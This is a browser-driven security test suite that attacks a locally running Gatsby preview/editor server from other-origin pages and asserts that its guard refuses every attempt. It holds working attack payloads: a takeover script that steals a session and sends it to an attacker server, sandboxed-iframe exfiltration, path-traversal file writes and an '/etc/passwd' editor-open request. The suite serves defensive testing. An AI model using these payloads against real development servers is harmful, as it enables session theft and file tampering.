import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import puppeteer, { type Browser, type LaunchOptions, type Page } from 'puppeteer-core';
import { quietly } from '../chromium-config';
import { missingPackages, programOf } from '../programs/engines';
import { RunningEdit } from './running';

// Attacks a running `npm run edit` from pages of other origins, as a page that a member of staff opens could.
test.describe.configure({ mode: 'serial' });

const scratch = mkdtempSync(path.join(tmpdir(), 'door-'));
let edit: RunningEdit;
/** What the attacker's server was asked for. */
const asked: string[] = [];
let evil: http.Server;
let secret: http.Server;
/** The attacker's page under another site's name, and at another port of the preview's own address: the same site. */
let site: string;
let near: string;
const homes = { 'another site': () => site, 'another port of its address': () => near };

const listening = async (server: http.Server) => {
  await new Promise<void>((done) => server.listen(0, done));
  return (server.address() as AddressInfo).port;
};

test.beforeAll(async () => {
  test.setTimeout(900_000);
  const editor = path.join(scratch, 'editor');
  writeFileSync(editor, `#!/bin/sh\necho "$@" >> ${scratch}/opened\n`);
  chmodSync(editor, 0o755);
  process.env.REACT_EDITOR = editor;
  // Where CI is set, Gatsby registers less than in a terminal.
  process.env.GATSBY_ENABLE_LAZY_IMAGES_IN_CI = 'true';
  edit = new RunningEdit(8127);
  edit.start();
  secret = http.createServer((_, response) => response.end('secret'));
  evil = http.createServer((request, response) => {
    // Firefox asks every origin for its icon.
    if (request.url !== '/favicon.ico') asked.push(request.url ?? '');
    response.setHeader('Content-Type', 'text/html');
    if (request.url === '/sandboxed')
      response.setHeader('Content-Security-Policy', 'sandbox allow-scripts allow-forms');
    response.end(
      request.url?.startsWith('/takeover')
        ? `<script>fetch('/___studio/session').then((r) => r.text()).then((t) => { new Image().src = '${site}/stolen?' + encodeURIComponent(t); });</script>`
        : '<!doctype html><title>A page</title><p>A page of another site</p>',
    );
  });
  const port = await listening(evil);
  site = `http://localhost:${port}`;
  near = `http://127.0.0.1:${port}`;
  await listening(secret);
  await edit.isReady();
});
test.afterAll(async () => {
  for (const server of [evil, secret]) server.close();
  edit.kill('SIGTERM');
  await edit.hasEnded();
  rmSync(scratch, { recursive: true });
});

const chromium = (...args: string[]): LaunchOptions => ({
  browser: 'chrome',
  executablePath: programOf('chromium'),
  args: [...quietly, '--host-resolver-rules=MAP rebound.example 127.0.0.1', ...args],
});
const browsers: Record<string, () => LaunchOptions> = {
  'Chromium with its checks of local networks': () => chromium(),
  'Chromium without them': () =>
    chromium('--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests'),
  Firefox: () => ({
    browser: 'firefox',
    executablePath: programOf('firefox'),
    extraPrefsFirefox: { 'network.dns.localDomains': 'rebound.example', 'dom.disable_open_during_load': false },
  }),
};

let browser: Browser;
let page: Page;

const later = (ms: number) => new Promise((done) => setTimeout(done, ms));

/** Opens a page of the attacker, and forgets what its server was asked for until then. */
const visit = async (address: string) => {
  await page.goto(address);
  asked.length = 0;
};
/** Opens an address in the tab, by a form on the page that is there. Returns the status and the text of the answer. */
const follow = async (address: string, method = 'get') => {
  const from = await page.evaluate(() => location.origin);
  await page.evaluate(
    (to, how) => {
      const form = Object.assign(document.createElement('form'), { method: how, action: to.split('?')[0] ?? '' });
      for (const [field, value] of new URLSearchParams(to.split('?')[1]))
        form.append(Object.assign(document.createElement('input'), { name: field, value }));
      document.body.append(form);
      form.submit();
    },
    address,
    method,
  );
  await page.waitForFunction((before) => location.origin !== before, {}, from).catch(() => undefined);
  await later(1500);
  return page
    .evaluate(() => ({
      status: (performance.getEntriesByType('navigation')[0] as PerformanceNavigationTiming).responseStatus,
      text: document.body.innerText.trim(),
    }))
    .catch(() => ({ status: 0, text: 'unreachable' }));
};
/** Fetches an address from the attacker's page. Returns what it can read. */
const read = (address: string, init: RequestInit = {}) =>
  page.evaluate(
    (to, how) =>
      fetch(to, how).then(
        (answer) => answer.text(),
        () => 'not readable',
      ),
    address,
    init as never,
  );
const fetching = (target: string, name = 'a.html') => `/_gatsby/file/a/${name}?u=${encodeURIComponent(target)}`;

/**
 * An address that fetches a file from the attacker and writes it to a folder of `public/_gatsby/_image`, or above the project.
 * A browser takes a part that is `..` itself out of an address, and leaves `..%2F..` in it.
 */
const writing = (folder = '..%2F..%2F..%2F..') =>
  `/_gatsby/image/${folder}/written/door-was-open.txt?u=${encodeURIComponent(encodeURIComponent(`${site}/x.txt`))}&a=w%3D1`;
const nothingWritten = () => {
  for (const folder of ['..', 'public/_gatsby/_image/a'])
    expect(existsSync(path.join(edit.copy, folder, 'written/door-was-open.txt'))).toBe(false);
};
const openingAddress = '/__open-stack-frame-in-editor?fileName=/etc/passwd';
const nothingOpened = () => {
  expect(existsSync(path.join(scratch, 'opened'))).toBe(false);
};

const notServed = { status: 403, text: 'The preview does not serve this address.' };
const notItsPage = { status: 403, text: 'The preview answers only to its own pages.' };

/** The attacks that were shown on Gatsby's server without the guard, each from a page of its own. */
const attacks = () => {
  test.afterAll(() => browser.close());
  test.beforeEach(async () => {
    page = await browser.newPage();
    await visit(site);
  });
  test.afterEach(async () => {
    await page.close();
    // Whatever was tried, the preview goes on. A connection that was kept for later may be closed by now.
    const status = () =>
      fetch(edit.at('/faq')).then(
        (answer) => answer.status,
        () => 0,
      );
    await expect.poll(status).toBe(200);
  });

  test('preview: when a page is to be fetched into its origin, then it is neither fetched nor run', async () => {
    expect(await follow(edit.at(fetching(`${site}/takeover.html`)))).toEqual(notServed);
    expect(asked).toEqual([]);
  });

  test('preview: when a file is to be written above the project or into public/, then none is', async () => {
    expect((await follow(edit.at(writing()))).status).toBe(403);
    expect(asked).toEqual([]);
    await visit(site);
    expect(await follow(edit.at(writing('a')))).toEqual(notServed);
    expect(asked).toEqual([]);
    nothingWritten();
  });

  test('preview: when an image of another site has an address that writes or opens a file, then neither happens', async () => {
    await page.evaluate(
      (sources) => {
        for (const src of sources) document.body.append(Object.assign(new Image(), { src }));
      },
      [edit.at(writing()), edit.at(writing('a')), edit.at(openingAddress)],
    );
    await later(2500);
    expect(asked).toEqual([]);
    nothingWritten();
    nothingOpened();
  });

  test('preview: when another service of this computer is to be read, then its answer does not come', async () => {
    const { port } = secret.address() as AddressInfo;
    expect(await read(edit.at(fetching(`http://127.0.0.1:${port}/`)))).toBe('not readable');
    expect(await follow(edit.at(fetching(`http://127.0.0.1:${port}/`, 'b.txt')))).toEqual(notServed);
  });

  test('preview: when a page asks GraphQL or the editor, even in a tab of their own, then they do not answer', async () => {
    expect(await read(edit.at('/___graphql?query={site{id}}'))).toBe('not readable');
    expect(await follow(edit.at('/___graphql?query={site{id}}'))).toEqual(notServed);
    await visit(site);
    expect(await follow(edit.at(openingAddress))).toEqual(notServed);
    nothingOpened();
  });

  test('preview: when an address that ends the development server is opened, then it goes on', async () => {
    expect(await follow(edit.at('/_gatsby/file/a/b?x=1'))).toEqual(notServed);
    await visit(site);
    expect((await follow(edit.at('/%zz'))).status).toBe(403);
    await later(1000);
    expect((await fetch(edit.at('/'))).status).toBe(200);
  });
};

for (const [name, options] of Object.entries(browsers))
  test.describe(name, () => {
    const missing = missingPackages(name === 'Firefox' ? 'firefox' : 'chromium');
    test.skip(missing.length > 0 && process.env.ENGINES !== 'all', `apt-get install ${missing.join(' ')}`);

    test.beforeAll(async () => {
      browser = await puppeteer.launch({ ...options(), headless: true });
      // The studio's key is in this browser, as on the computer of whoever edits.
      const own = await browser.newPage();
      await own.goto(edit.printed(), { timeout: 120_000 });
      await own.waitForFunction(() => localStorage.getItem('studio-key') !== null, { timeout: 60_000 });
    });

    attacks();

    for (const [where, home] of Object.entries(homes)) {
      test(`preview: when a page of ${where} frames it, then the frame holds nothing of it`, async () => {
        await visit(home());
        await page.evaluate((address) => {
          document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
        }, edit.at('/faq'));
        await later(2000);
        const inside = await page
          .frames()
          .at(-1)
          ?.evaluate(() => document.querySelector('#___gatsby') !== null)
          .catch(() => false);
        expect(inside).toBe(false);
      });

      test(`preview: when a page of ${where} loads from it or sends to it in ten ways in the background, then it gets nothing`, async () => {
        await visit(home());
        const address = edit.at('');
        const results = await page.evaluate(async (preview) => {
          const loads = (tag: string, attributes: object) =>
            new Promise<boolean>((done) => {
              const element = Object.assign(document.createElement(tag), attributes, {
                onload: () => {
                  done(true);
                },
                onerror: () => {
                  done(false);
                },
              });
              document.head.append(element);
              setTimeout(() => {
                done(false);
              }, 3000);
            });
          const fetches = (to: string, how?: RequestInit) =>
            fetch(to, how).then(
              (answer) => answer.type !== 'opaque' && answer.ok,
              () => false,
            );
          const socket = (to: string) =>
            new Promise<boolean>((done) => {
              const opened = new WebSocket(to);
              opened.onopen = () => {
                done(true);
              };
              opened.onerror = () => {
                done(false);
              };
            });
          const { port } = new URL(preview);
          return {
            image: await loads('img', { src: `${preview}/favicon.svg` }),
            script: await loads('script', { src: `${preview}/commons.js` }),
            style: await loads('link', { rel: 'stylesheet', href: `${preview}/commons.css` }),
            page: await fetches(`${preview}/faq`),
            session: await fetches(`${preview}/___studio/session`),
            save: await fetches(`${preview}/___studio/save`, { method: 'POST', body: '{}' }),
            'with a header': await fetches(`${preview}/___studio/session`, { headers: { 'x-studio-key': 'a' } }),
            'under the name localhost': await fetches(`http://localhost:${port}/faq`),
            socket: await socket(`${preview.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`),
            stream: await new Promise<boolean>((done) => {
              const source = new EventSource(`${preview}/___preview`);
              source.onopen = () => {
                source.close();
                done(true);
              };
              source.onerror = () => {
                source.close();
                done(false);
              };
            }),
          };
        }, address);
        expect(Object.entries(results).filter(([, reached]) => reached)).toEqual([]);
      });

      test(`preview: when a form of ${where} posts to it, then it is refused`, async () => {
        await visit(home());
        expect(await follow(edit.at('/___studio/save?changes=x'), 'post')).toEqual(notItsPage);
        await visit(home());
        const noPost = { status: 403, text: 'The preview does not answer POST at this address.' };
        expect(await follow(edit.at('/faq?x=1'), 'post')).toEqual(noPost);
      });
    }

    test('preview: when it is opened under another name, then nothing of it is shown', async () => {
      const { port } = new URL(edit.at('/'));
      const shown: Record<string, unknown> = {};
      for (const host of ['localhost', 'localhost.', 'rebound.example', '[::1]'])
        shown[host] = await page.goto(`http://${host}:${port}/faq`, { timeout: 10_000 }).then(
          (answer) => answer?.status(),
          () => 'unreachable',
        );
      // The preview does not listen at ::1. A browser writes LOCALHOST in lower case and 127.0.0.1. without its dot.
      // tools/studio/preview/door/requests.test.ts tests such names, as another program could send them.
      expect(shown).toEqual({ localhost: 403, 'localhost.': 403, 'rebound.example': 403, '[::1]': 'unreachable' });
    });

    test('preview: when a page is sandboxed, so that its origin is null, then it gets nothing and sends nothing', async () => {
      await page.evaluate(
        (preview, home) => {
          const script = `for (const [address, method] of [['/faq', 'GET'], ['/___studio/session', 'GET'], ['/___studio/save', 'POST']])
            fetch('${preview}' + address, { method }).then((r) => r.text()).then(() => fetch('${home}/stolen' + address, { mode: 'no-cors' }))`;
          document.body.append(
            Object.assign(document.createElement('iframe'), {
              sandbox: 'allow-scripts',
              srcdoc: `<script>${script}</script>`,
            }),
          );
        },
        edit.at(''),
        site,
      );
      await later(1500);
      expect(asked.filter((url) => url.startsWith('/stolen'))).toEqual([]);
      await visit(`${site}/sandboxed`);
      expect(await page.evaluate(() => self.origin)).toBe('null');
      expect(await follow(edit.at('/___studio/save?changes=x'), 'post')).toEqual(notItsPage);
    });

    test('preview: when another site prefetches a page or an attack, then it is refused', async () => {
      const answers: number[] = [];
      page.on('response', (answer) => {
        if (answer.url().startsWith(edit.at('/'))) answers.push(answer.status());
      });
      const knowsRules = await page.evaluate(
        (ownPage, attack, control) => {
          const link = (href: string) => Object.assign(document.createElement('link'), { rel: 'prefetch', href });
          const targets = (how: string) => [`${ownPage}?${how}`, `${attack}${how}.html`, `${control}/${how}`];
          const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
          rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: targets('by-rules') }] });
          document.head.append(...targets('by-link').map(link), rules);
          return HTMLScriptElement.supports('speculationrules');
        },
        edit.at('/faq'),
        edit.at(fetching(`${site}/takeover-`)),
        near,
      );
      // The attacker's own pages are prefetched, so the preview was asked for its pages too.
      await expect.poll(() => asked).toContain('/by-link');
      if (knowsRules) await expect.poll(() => asked).toContain('/by-rules');
      await later(1500);
      expect(asked.filter((url) => url.startsWith('/takeover'))).toEqual([]);
      expect(new Set(answers)).toEqual(new Set([403]));
    });

    test('preview: when a link of another site opens a page, then it is shown, and the site has no hold on it', async () => {
      const [popup] = await Promise.all([
        new Promise<Page | null>((opened) => page.once('popup', opened)),
        page.evaluate((address) => {
          const link = Object.assign(document.createElement('a'), { href: address, target: '_blank', rel: 'opener' });
          document.body.append(link);
          link.click();
        }, edit.at('/faq')),
      ]);
      await popup?.waitForSelector('h1', { timeout: 30_000 });
      expect(await popup?.evaluate(() => window.opener === null)).toBe(true);
      await popup?.close();
    });

    test('preview: when a page of another site opens a window of it, then it cannot reach into the window', async () => {
      const [popup] = await Promise.all([
        new Promise<Page | null>((opened) => page.once('popup', opened)),
        page.evaluate((address) => {
          Object.assign(window, { popup: window.open(address) });
        }, edit.at('/faq')),
      ]);
      await popup?.waitForSelector('h1', { timeout: 30_000 });
      const hold = await page.evaluate((home) => {
        const { popup: handle } = window as unknown as { popup: Window };
        const tried = (what: () => unknown) => {
          try {
            return what();
          } catch {
            return '';
          }
        };
        const held = {
          closed: handle.closed,
          frames: tried(() => handle.length),
          address: tried(() => handle.location.href),
          text: tried(() => handle.document.body.innerText),
        };
        tried(() => {
          handle.location.href = `${home}/taken-over`;
        });
        return held;
      }, site);
      await later(1000);
      expect(hold).toEqual({ closed: true, frames: 0, address: '', text: '' });
      expect(popup?.url()).toBe(edit.at('/faq'));
      await popup?.close();
    });

    test('preview: when a page of it is open, then it can register no service worker and run no inline script', async () => {
      await page.goto(edit.at('/faq'));
      await page.waitForSelector('h1');
      const result = await page.evaluate(async () => {
        const worker = await navigator.serviceWorker.register('/commons.js').then(
          () => true,
          () => false,
        );
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        document.head.append(script);
        return { worker, ran: 'ran' in window };
      });
      expect(result).toEqual({ worker: false, ran: false });
    });
  });

/** Returns what the running server answers and docs/decisions/preview-server.md does not list with the same verdict. */
const unlisted = (copy: string) => {
  const routes = readFileSync(path.join(copy, '.tmp/preview-routes.txt'), 'utf8')
    .trim()
    .split('\n')
    .map((line) => line.split('\t'));
  const decision = readFileSync(path.join(__dirname, '../../docs/decisions/preview-server.md'), 'utf8');
  // `| ` `/address` ` | allowed | why |`, and `| ` `(name)` ` ×2 | allowed | why |` for what sees every request.
  const rows = [...decision.matchAll(/^\| `(.+?)`(?: ×(\d+))? +\| (\w+)/gm)].map(
    ([, address = '', times = '1', verdict = '']) => [address.replaceAll('\\|', '|'), times, verdict] as const,
  );
  const verdicts = new Map(rows.map(([address, , verdict]) => [address, verdict]));
  const count = (name: string) => routes.filter(([, , address]) => address === name).length;
  return [
    ...routes.filter(([verdict = '', , address = '']) => verdicts.get(address) !== verdict.split(':')[0]),
    // Many handlers have no name, so only their number shows a new one.
    ...rows
      .filter(([address, times]) => address.startsWith('(') && count(address) !== Number(times))
      .map(([address, times]) => `${address}: ${count(address)}, and not ${times}`),
  ];
};

test('preview: when Gatsby has registered an address, then the decision lists it, as allowed or refused', () => {
  expect(unlisted(edit.copy)).toEqual([]);
});

test.describe('npm run develop', () => {
  test.beforeAll(async () => {
    test.setTimeout(900_000);
    edit.kill('SIGTERM');
    await edit.hasEnded();
    // Gatsby alone serves localhost and not 127.0.0.1 (`at` in running.ts). So the attacker's two addresses change places.
    [site, near] = [near, site];
    edit = new RunningEdit(8127, 'develop');
    edit.start();
    await edit.isReady();
    browser = await puppeteer.launch({ ...chromium(), headless: true });
  });

  attacks();
});
